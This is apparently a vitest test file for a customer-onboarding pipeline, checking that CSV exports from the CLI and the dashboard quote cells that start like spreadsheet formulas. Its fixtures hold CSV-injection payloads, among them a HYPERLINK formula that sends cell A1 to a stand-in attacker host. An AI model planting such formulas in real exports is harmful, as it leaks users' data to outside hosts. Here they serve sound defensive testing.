import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inertCsvCell } from '../../src/workers/results-csv.js';
import { batchResults, type CustomerResult } from '../../src/workers/results.js';
import { runCli } from '../helpers/cli.js';
import { startDashboardPipeline, type DashboardPipeline } from '../helpers/dashboard.js';

/** What a spreadsheet would run as a formula, as customers could send it. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const customers = [
  {
    name: FORMULA_NAME,
    email: 'it@formula-one.example',
    external_id: 'csv-formula-1',
    activation: 'password' as const,
  },
  { name: '@SUM(1+1)*cmd', email: 'it@formula-two.example', external_id: 'csv-formula-2', login: '+acme=1' },
  {
    name: '-2+3 Holdings',
    email: 'it@formula-three.example',
    external_id: 'csv-formula-3',
    activation: 'password' as const,
    password: '=Formula-Pass-93!',
  },
  { name: 'Plain GmbH', email: 'it@plain.example', external_id: 'csv-plain' },
];

let t: DashboardPipeline;
let batchId: string;
let results: CustomerResult[];

beforeAll(async () => {
  t = await startDashboardPipeline({ label: 'dash-csv' });
  await t.startWorkers();
  const { batch } = await t.enqueue(customers);
  batchId = batch.id;
  expect(await t.waitForBatch(batchId)).toMatchObject({ done: 4, failed: 0 });
  results = await batchResults(
    { store: t.pipeline.store, box: t.pipeline.box, dataCenterUrlFor: () => t.sim.url },
    batchId,
  );
});
afterAll(async () => {
  await t?.close();
});

/** Every cell of `csv` is the result's value, with a leading ' exactly where the value starts like a formula. */
function expectInert(csv: string): void {
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(results.length);
  let prefixed = 0;
  for (const [i, row] of rows.entries()) {
    for (const [column, cell] of Object.entries(row)) {
      const value = String(results[i]![column as keyof CustomerResult]);
      expect(cell, `${column} of ${results[i]!.customer}`).not.toMatch(/^[=+\-@\t\r]/);
      expect(cell, `${column} of ${results[i]!.customer}`).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
      if (cell !== value) prefixed++;
    }
  }
  // The formula-looking name, the second name, the login, the given password and the third name at least.
  expect(prefixed).toBeGreaterThanOrEqual(5);
}

describe('CSV cells that look like formulas', () => {
  it('get a leading quote, and only those', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(inertCsvCell(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ['Acme', '', "'quoted", ' =1', 'a=b', '.\\agent.exe --reg-token=X']) {
      expect(inertCsvCell(safe)).toBe(safe);
    }
  });

  it('are inert in `results --format csv`, names, logins and passwords alike; JSON keeps them verbatim', async () => {
    const csv = await runCli(t, ['results', batchId, '--format', 'csv']);
    expect(csv.code).toBe(0);
    expectInert(csv.stdout);
    expect(csv.stdout).toContain(`"'${FORMULA_NAME.replace(/"/g, '""')}"`);
    expect(csv.stdout).toContain("'+acme=1");
    expect(csv.stdout).toContain("'=Formula-Pass-93!");
    const json = await runCli(t, ['results', batchId, '--format', 'json']);
    expect(JSON.parse(json.stdout)).toEqual(results);
  });

  it('are inert in the dashboard download too, with and without the revealed secrets', async () => {
    const client = t.client();
    await client.signIn();
    const csrf = await client.csrfToken(`/batches/${batchId}`);
    const revealed = await client.post(`/batches/${batchId}/results`, { _csrf: csrf, format: 'csv', reveal: 'yes' });
    expect(revealed.status).toBe(200);
    expect(revealed.headers.get('content-type')).toContain('text/csv');
    expectInert(revealed.text);
    const masked = await client.get(`/batches/${batchId}/results?format=csv`);
    const rows = parse(masked.text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name)).toEqual(results.map((r) => inertCsvCell(r.name)));
    expect(rows.every((r) => r.password === '' && r.registration_token === '')).toBe(true);
  });
});
